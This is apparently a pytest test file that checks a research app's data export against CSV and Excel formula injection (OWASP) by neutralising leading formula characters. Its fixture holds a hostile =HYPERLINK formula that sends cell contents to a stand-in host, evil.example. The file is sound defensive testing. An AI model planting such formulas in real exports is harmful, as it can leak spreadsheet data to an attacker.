"""Participant and staff text never becomes a live formula in an export (OWASP CSV
injection; ASVS 1.2.10): CSV text cells starting with = + - @ tab CR get a leading ',
Excel cells hold text, and ``raw_csv`` writes the cells as stored."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session as DbSession

from chameleons.backend.export.service import ExportRequest, export_to_directory
from chameleons.backend.export.writers import neutralise
from chameleons.backend.models import Session
from tests.support.factories import populate

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def evil_note(db_session: DbSession, tmp_path: Path) -> str:
    populate(db_session, 3, recordings_dir=tmp_path / "rec")
    session = db_session.scalars(select(Session).order_by(Session.id)).first()
    assert session is not None
    session.state, session.end_reason, session.end_note = "ended", "other", EVIL
    db_session.commit()
    return EVIL


def _notes(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [row["end_note"] for row in csv.DictReader(handle) if row["end_note"]]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("fine = ok", "fine = ok"),
        ("", ""),
    ],
)
def test_leading_formula_characters_are_neutralised(text: str, expected: str) -> None:
    assert neutralise(text) == expected


def test_csv_text_cells_are_neutralised_and_the_codebook_says_so(
    db_session: DbSession, evil_note: str, tmp_path: Path
) -> None:
    out = tmp_path / "export"
    export_to_directory(db_session, ExportRequest(), out)
    assert _notes(out / "participants.csv") == ["'" + evil_note]
    with (out / "codebook.csv").open(newline="", encoding="utf-8") as handle:
        book = {(r["table"], r["column"]): r for r in csv.DictReader(handle)}
    assert "leading '" in book[("participants", "end_note")]["description"]
    assert all("leading '" not in r["description"] for r in book.values() if r["type"] != "string")
    assert json.loads((out / "metadata.json").read_text())["csv_formula_guard"] is True
    assert "OWASP" in (out / "README.md").read_text()


def test_raw_csv_keeps_the_text_as_stored(
    db_session: DbSession, evil_note: str, tmp_path: Path
) -> None:
    out = tmp_path / "raw"
    export_to_directory(db_session, ExportRequest(raw_csv=True), out)
    assert _notes(out / "participants.csv") == [evil_note]
    assert json.loads((out / "metadata.json").read_text())["csv_formula_guard"] is False


def test_excel_cells_are_text_never_formulas(
    db_session: DbSession, evil_note: str, tmp_path: Path
) -> None:
    out = tmp_path / "xlsx"
    export_to_directory(db_session, ExportRequest(formats=("csv", "xlsx")), out)
    with zipfile.ZipFile(out / "data.xlsx") as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(book.read(n).decode() for n in sheets)
    assert "<f>" not in xml  # no formula anywhere in the workbook
    workbook = load_workbook(out / "data.xlsx")
    sheet = workbook["participants"]
    header = [c.value for c in sheet[1]]
    column = header.index("end_note")
    cells = [row[column] for row in sheet.iter_rows(min_row=2) if row[column].value]
    assert [(c.value, c.data_type) for c in cells] == [(evil_note, "s")]
    workbook.close()
